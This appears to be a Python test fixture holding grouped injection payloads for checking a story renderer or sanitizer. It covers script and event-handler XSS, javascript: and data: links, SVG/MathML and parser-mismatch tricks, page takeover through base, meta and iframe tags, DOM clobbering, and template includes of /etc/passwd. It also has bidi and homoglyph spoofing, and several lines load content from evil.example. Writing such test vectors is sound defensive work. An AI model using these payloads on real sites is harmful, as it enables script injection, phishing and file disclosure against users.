"""Attack vectors of our own on whatever shows a story: a few of each class."""

BIDI = "\u202e\u2066gnp.exe\u2069\u202c"

VECTORS: dict[str, tuple[str, ...]] = {
    "scripts": (
        "<script>alert(1)</script>",
        "\"'><script>alert(1)</script><b x='",
        "</title></script></style></textarea><script>alert(1)</script>",
        "<sCrIpT/x src=data:text/javascript,alert(1)></ScRiPt\t>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<script>alert(1)//",
    ),
    "event handlers": (
        "<img src=x onerror=alert(1)>",
        '"onmouseover="alert(1)" autofocus onfocus=alert(1) x="',
        "<details open ontoggle=alert(1)>x</details>",
        "<b/onclick\x0c=\x0calert(1) onanimationstart=alert(1) style='animation:x 1s'>x</b>",
        "<video autoplay onloadstart=alert(1) src=/favicon.svg>",
        "<img src='x' alt='`onerror=alert(1)` ' title=\"' onerror=alert(1) '\">",
    ),
    "active addresses": (
        "[x](javascript:alert(1)) <a href=javascript:alert(1)>x</a>",
        "<a href='java&#x09;script&colon;alert(1)'>x</a> [x](&#106;avascript:alert(1))",
        "<a href=' \x01\x0bjavascript:alert(1)'>x</a> [x](<  javascript:alert(1)>)",
        "<a href='JaVa\tScRiPt:alert(1)'>x</a> <javascript:alert(1)>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a> ![x](vbscript:msgbox(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x] [x][] ![x][x]",
        "<a href=//evil.example\\@courier.example>x</a> <a href='/\\evil.example'>x</a>",
    ),
    "foreign content": (
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject><set attributeName=href to=javascript:alert(1)></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ),
    "parsers that disagree": (
        '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<template><img src=x onerror=alert(1)></template><xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> <!---!><script>alert(1)</script>-->",
        "<table><a href='<b>'><td><select><option><img src=x onerror=alert(1)></select></table>",
        "<a><a><a title='&lt;img src=x onerror=alert(1)&gt;'>&lt;img src=x onerror=alert(1)&gt;</a></a>",
        "<?x <img src=x onerror=alert(1)> ?><!x><img src=x onerror=alert(1)><![CDATA[><img src=x onerror=alert(1)>]]>",
    ),
    "the page taken over": (
        "<base href=//evil.example/><base target=_top>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><meta charset=utf-7>",
        "<form action=javascript:alert(1) id=f><button formaction=javascript:alert(1)>x</button><input type=image src=x></form>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><iframe src=javascript:alert(1)></iframe>",
        "<object data=javascript:alert(1)></object><embed src=data:text/html,x><portal src=//evil.example></portal>",
        "<style>*{background:url(//evil.example/x)}@import'//evil.example';</style><p style='position:fixed;inset:0'>x</p>",
        "<link rel=stylesheet href=//evil.example/x.css><link rel=import href=//evil.example>",
        "<dialog open popover>x</dialog><p contenteditable accesskey=x tabindex=1 is=x-y slot=x part=x>x</p>",
    ),
    "names that hide others": (
        "<a id=location name=location></a><img name=cookie id=cookie src=/x><form name=body id=body></form>",
        "<form id=forms name=getElementById><input name=attributes id=submit></form>",
        "<a id=defaultView><a id=defaultView name=x href=clob:1></a> <p id=__proto__ name=constructor>x</p>",
    ),
    "data formats": (
        ']]><script>alert(1)</script><![CDATA[ ]]&gt; <!ENTITY x "y"> &x; &lt;!DOCTYPE',
        '{"@type":"x"}</script><script>alert(1)</script><!--<script>',
        '</item></entry></channel><item><link>javascript:alert(1)</link></item><?xml-stylesheet href="x"?>',
        '\\"},alert(1),{\\" \u2028 \u2029 \\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
        "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}<%= 7*7 %>${7*7}<!--#include virtual='/etc/passwd'--><esi:include src='//evil.example'/>",
    ),
    "signs nobody sees": (
        f"before {BIDI} <b title='{BIDI}'>x</b> &#x202e;&#8294;",
        "nul \x00 <scr\x00ipt>alert(1)</scr\x00ipt> &#0; &#xfffe; \x1b[31m \x07 \x85 \ufeff",
        "<a href='https://аррӏе.example/'>apple.example</a> <a href='https://courier.example․evil.example'>x</a>",
        "＜script＞alert(1)＜/script＞ ﹤img src=x onerror=alert(1)﹥ ʺonclick=alert(1)ʺ +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
}
